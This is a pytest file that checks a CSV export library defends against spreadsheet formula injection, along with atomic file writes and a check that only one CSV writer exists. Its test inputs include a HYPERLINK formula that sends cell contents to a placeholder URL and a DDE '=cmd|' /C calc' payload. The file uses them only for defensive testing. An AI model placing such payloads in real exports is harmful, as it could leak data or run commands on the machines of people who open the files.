"""The one CSV writer (formula injection neutralised) and the atomic writers."""

import re
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from collections_lab.data.files import (
    atomic_write,
    neutralise_cell,
    restore_cell,
    write_csv,
)

SRC = Path(__file__).parents[1] / "src" / "collections_lab"
SAMPLE = Path(__file__).parents[1] / "data" / "sample"
EVIL = ["=HYPERLINK(\"http://x/?\"&A1)", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("cell", EVIL)
def test_each_trigger_character_is_neutralised_with_a_quote(cell, tmp_path):
    frame = pd.DataFrame({"customer_id": [cell], "amount": [-12.5]})
    back = pd.read_csv(write_csv(frame, tmp_path / "x.csv"), dtype=str, keep_default_na=False)
    assert back["customer_id"][0] == "'" + cell
    assert back["amount"][0] == "-12.5"  # a negative amount stays a number
    assert len(back) == 1  # a carriage return inside a cell does not split the row


def test_numbers_and_plain_numeric_text_stay_as_they_are(tmp_path):
    frame = pd.DataFrame({"n": [-1, 2], "x": [-0.5, None], "t": ["-12.5", "+3"],
                          "d": pd.to_datetime(["2025-01-31", None]), "ok": ["C1", "a-b"]})
    text = write_csv(frame, tmp_path / "x.csv").read_text()
    assert text == "n,x,t,d,ok\n-1,-0.5,-12.5,2025-01-31,C1\n2,,+3,,a-b\n"


def test_column_names_are_neutralised_too(tmp_path):
    text = write_csv(pd.DataFrame({"=cmd": ["a"]}), tmp_path / "x.csv").read_text()
    assert text.splitlines()[0] == "'=cmd"


@given(st.text(max_size=12))
def test_restore_undoes_neutralise_exactly(text):
    assert restore_cell(neutralise_cell(text)) == text
    if re.match(r"^[=+\-@\t\r]", str(neutralise_cell(text))):  # only plain numbers stay
        assert re.fullmatch(r"[+-]?([0-9]+\.?[0-9]*|\.[0-9]+)([eE][+-]?[0-9]+)?", text)


def test_atomic_write_leaves_nothing_behind_when_writing_fails(tmp_path):
    target = tmp_path / "a.csv"
    target.write_text("old")

    def boom(handle):
        handle.write(b"half")
        raise OSError(28, "No space left on device")

    with pytest.raises(OSError, match="No space"):
        atomic_write(target, boom)
    assert target.read_text() == "old" and [p.name for p in tmp_path.iterdir()] == ["a.csv"]


def test_the_design_reports_assignment_file_is_neutralised(tmp_path):
    from collections_lab.data.loading import load_portfolio
    from collections_lab.experiments.workflow import assign_experiment

    portfolio = load_portfolio(SAMPLE)
    portfolio.customers = portfolio.customers.head(20).copy()
    portfolio.customers.loc[0, "customer_id"] = "=cmd|' /C calc'!A0"
    assign_experiment(portfolio, ["one_friendly_after_due", "nudge_then_firm"],
                      location=SAMPLE, assigned_at="2026-06-01", path=tmp_path / "a.csv")
    ids = pd.read_csv(tmp_path / "a.csv", dtype=str)["customer_id"]
    assert "'=cmd|' /C calc'!A0" in set(ids)
    assert not ids.str.match(r"^[=+\-@]").any()


def test_engagement_lists_and_saved_portfolios_are_neutralised(tmp_path):
    from collections_lab.analytics.engagement import EngagementList
    from collections_lab.data.portfolio import Portfolio

    frame = pd.DataFrame({"customer_id": ["@evil", "C2"], "open_amount": [-5.0, 1.0]})
    text = EngagementList(frame, "call").to_csv(tmp_path / "call.csv").read_text()
    assert text == "customer_id,open_amount\n'@evil,-5.0\nC2,1.0\n"
    customers = pd.DataFrame({"customer_id": ["+C1"], "name": ["=1+2"]})
    invoices = pd.DataFrame({"invoice_id": ["I1"], "customer_id": ["+C1"],
                             "issue_date": pd.to_datetime(["2025-01-01"])})
    Portfolio(customers, invoices).save(tmp_path / "out")
    assert (tmp_path / "out" / "customers.csv").read_text().splitlines()[1].startswith(
        "'+C1,'=1+2")
    assert "2025-01-01" in (tmp_path / "out" / "invoices.csv").read_text()
    assert not list((tmp_path / "out").glob("*.tmp"))


def test_no_csv_is_written_around_the_one_writer():
    """Every ``.to_csv(`` in the package is the one inside write_csv."""
    offenders = []
    for path in SRC.rglob("*.py"):
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if re.search(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(", line):
                offenders.append(f"{path.relative_to(SRC)}:{number}")
    assert [o.split(":")[0] for o in offenders] == ["data/files.py"], offenders


def test_the_workbench_reads_its_own_neutralised_files_back_exactly(tmp_path):
    from collections_lab.data.loading import load_portfolio

    portfolio = load_portfolio(SAMPLE)
    first = portfolio.customers["customer_id"].iloc[0]
    evil = {first: "=HYPERLINK(1)", portfolio.customers["customer_id"].iloc[1]: "-C2"}
    for table in ("customers", "invoices", "assignments"):
        frame = portfolio.table(table)
        frame["customer_id"] = frame["customer_id"].replace(evil)
    portfolio.save(tmp_path)
    assert "'=HYPERLINK(1)" in (tmp_path / "assignments.csv").read_text()
    back = load_portfolio(tmp_path, strict=True)
    for table in ("customers", "invoices", "assignments"):
        assert set(back.table(table)["customer_id"]) == set(
            portfolio.table(table)["customer_id"]), table
